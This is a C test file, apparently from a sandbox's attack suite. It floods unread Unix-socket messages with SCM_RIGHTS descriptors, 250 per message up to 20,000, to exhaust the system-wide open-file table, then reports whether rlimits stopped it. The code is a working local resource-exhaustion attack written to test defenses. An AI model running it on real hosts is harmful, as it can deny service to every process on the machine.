// attack: descriptors on their way
// tries: Sends descriptors into sockets that nobody reads and closes its own:
//   each message holds 250 files open that no process has.
// wall: rlimit
// without: The machine's table of open files fills up, past every limit of a
//   process.
// expect: ok
// limits: {"memory_mb": 64}

#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tests/attacks/lib/attack.h"

#define AT_ONCE 250
#define ENOUGH  20000

static bool
send_many(int to, int fd)
{
	union {
		struct cmsghdr head;
		char space[CMSG_SPACE(AT_ONCE * sizeof(int))];
	} control;
	struct iovec byte = { (void *)"x", 1 };
	struct msghdr message = { .msg_iov = &byte,
		.msg_iovlen = 1,
		.msg_control = &control,
		.msg_controllen = sizeof control };
	int *fds = (int *)CMSG_DATA(&control.head);

	memset(&control, 0, sizeof control);
	control.head.cmsg_level = SOL_SOCKET;
	control.head.cmsg_type = SCM_RIGHTS;
	control.head.cmsg_len = CMSG_LEN(AT_ONCE * sizeof(int));
	for (int i = 0; i < AT_ONCE; i++)
		fds[i] = fd;
	return sendmsg(to, &message, MSG_DONTWAIT) > 0;
}

int attack_descriptors_in_flight(int argc, char **argv);

int
attack_descriptors_in_flight(int argc, char **argv)
{
	int sent = 0, fd = open("/dev/null", O_RDONLY), pair[2];

	(void)argc, (void)argv;
	while (sent < ENOUGH && socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0) {
		int before = sent;

		while (sent < ENOUGH && send_many(pair[0], fd))
			sent += AT_ONCE;
		if (sent == before)
			break;
	}
	if (sent >= ENOUGH)
		escaped("descriptors in flight", "%d", sent);
	else
		stopped("descriptors in flight", "at %d", sent);
	return 0;
}
